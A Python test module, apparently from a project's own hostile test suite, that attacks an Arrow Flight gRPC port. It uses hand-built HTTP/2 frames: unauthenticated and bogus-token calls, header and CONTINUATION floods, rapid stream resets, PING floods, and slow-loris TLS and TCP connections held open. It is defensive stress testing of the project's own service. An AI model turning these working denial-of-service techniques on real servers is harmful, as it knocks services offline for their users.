"""Attacks on the TCP port of Flight, by those who do not have the token of the spool. All that they
send behind their handshake is on its way before they can know that it failed."""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
from collections.abc import Iterator

from tests.hostile.attack import Stage, Target, attack
from tests.hostile.raw import noise

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, CONTINUATION, PING, RST_STREAM = 0x4, 0x1, 0x9, 0x6, 0x3
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    head = len(payload).to_bytes(3) + bytes([kind, flags])
    return head + stream_id.to_bytes(4) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header field of HPACK that is put into no table."""
    return b"\x10" + _string(name) + _string(value)


def _string(text: bytes) -> bytes:
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    head, length = b"\x7f", length - 127
    while length >= 128:
        head += bytes([length & 0x7F | 0x80])
        length >>= 7
    return head + bytes([length]) + text


CALL = (
    literal(b":method", b"POST") + literal(b":scheme", b"https")
    + literal(b":path", b"/arrow.flight.protocol.FlightService/DoAction")
    + literal(b":authority", b"aqueduct-intake") + literal(b"te", b"trailers")
    + literal(b"content-type", b"application/grpc")
)  # fmt: skip


class TlsClient:
    """A client of TLS that trusts anybody and has no certificate; its bytes are counted as they are
    on their way."""

    def __init__(self, target: Target) -> None:
        assert target.flight is not None
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self._socket = socket.create_connection(target.flight, timeout=30)
        self._tally = target.tally
        self._read, self._written = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._tls = context.wrap_bio(self._read, self._written)
        self.broken = False

    def begin(self) -> None:
        """The first flight alone."""
        with contextlib.suppress(ssl.SSLWantReadError):
            self._tls.do_handshake()
        self._send()

    def shake(self) -> None:
        """The whole handshake, as far as it is the client's."""
        self.begin()
        while not self.broken:
            self._receive()
            try:
                self._tls.do_handshake()
                return
            except ssl.SSLWantReadError:
                continue
            except ssl.SSLError:
                self.broken = True

    def write(self, data: bytes) -> None:
        if self.broken:
            return
        self._tls.write(data)
        self._send()
        while not self.broken and select.select([self._socket], [], [], 0)[0]:
            self._receive()

    def close(self) -> None:
        self._socket.close()

    def _send(self) -> None:
        data = self._written.read()
        self._tally.bytes += len(data)
        self._tally.datagrams += 1
        try:
            self._socket.sendall(data)
        except OSError:
            self.broken = True

    def _receive(self) -> None:
        try:
            data = self._socket.recv(65_536)
        except OSError:
            data = b""
        self._read.write(data)
        self.broken = self.broken or not data


class Http2(TlsClient):
    """A client that writes frames of its own."""

    def __init__(self, target: Target) -> None:
        super().__init__(target)
        self._next = 1
        self.shake()
        self.write(PREFACE + frame(SETTINGS, 0, 0, b""))

    def call(self, *fields: bytes, body: bytes = b"") -> None:
        """One request, with a message or without."""
        stream_id, self._next = self._next, self._next + 2
        sent = frame(HEADERS, END_HEADERS, stream_id, CALL + b"".join(fields))
        self.write(sent + frame(0, END_STREAM, stream_id, b"\0" + len(body).to_bytes(4) + body))

    def open(self) -> int:
        """A request of which neither headers nor message are over."""
        stream_id, self._next = self._next, self._next + 2
        self.write(frame(HEADERS, 0, stream_id, CALL))
        return stream_id


def calls(target: Target, *fields: bytes) -> Iterator[None]:
    """Calls with these headers, on a new connection each time that one is closed."""
    while True:
        client = Http2(target)
        while not client.broken:
            client.call(*fields, body=b"\x0a\x06status")
            yield
        client.close()
        yield


@attack(Stage.FLIGHT)
def flight_without_a_token(target: Target) -> Iterator[None]:
    yield from calls(target)


@attack(Stage.FLIGHT)
def flight_with_a_wrong_token(target: Target) -> Iterator[None]:
    yield from calls(target, literal(b"authorization", b"Bearer " + b"x" * 43))


@attack(Stage.FLIGHT)
def flight_with_a_long_token(target: Target) -> Iterator[None]:
    yield from calls(target, literal(b"authorization", b"Bearer " + b"x" * 7_000))


@attack(Stage.FLIGHT)
def flight_with_many_headers(target: Target) -> Iterator[None]:
    """As many fields as a frame holds."""
    yield from calls(target, *(literal(b"x%d" % n, b"y") for n in range(1_000)))


@attack(Stage.FLIGHT)
def flight_headers_without_end(target: Target) -> Iterator[None]:
    """A request whose headers go on and on."""
    while True:
        client = Http2(target)
        stream_id = client.open()
        while not client.broken:
            client.write(frame(CONTINUATION, 0, stream_id, literal(b"x", b"y" * 4_000)))
            yield
        client.close()
        yield


@attack(Stage.FLIGHT)
def flight_requests_reset(target: Target) -> Iterator[None]:
    """Requests that are taken back as soon as they were made."""
    while True:
        client = Http2(target)
        stream_id = 1
        while not client.broken:
            request = frame(HEADERS, END_HEADERS, stream_id, CALL)
            client.write(request + frame(RST_STREAM, 0, stream_id, b"\0\0\0\x08"))
            stream_id += 2
            yield
        client.close()
        yield


@attack(Stage.FLIGHT)
def flight_pings(target: Target) -> Iterator[None]:
    while True:
        client = Http2(target)
        while not client.broken:
            client.write(b"".join(frame(PING, 0, 0, noise(8)) for _ in range(50)))
            yield
        client.close()
        yield


@attack(Stage.FLIGHT)
def flight_handshakes_left(target: Target) -> Iterator[None]:
    """Slow loris: handshakes of TLS that are answered and never go on."""
    held = []
    for _ in range(3_000):
        client = TlsClient(target)
        client.begin()
        held.append(client)
        yield


@attack(Stage.FLIGHT)
def flight_connections_left(target: Target) -> Iterator[None]:
    """Slow loris: TCP connections that never say a word, and some that begin TLS."""
    assert target.flight is not None
    held = []
    for number in range(3_000):
        client = socket.create_connection(target.flight, timeout=30)
        target.tally.datagrams += 1
        if number % 2:
            client.sendall(b"\x16\x03\x01\x02\x00\x01")
            target.tally.bytes += 6
        held.append(client)
        yield
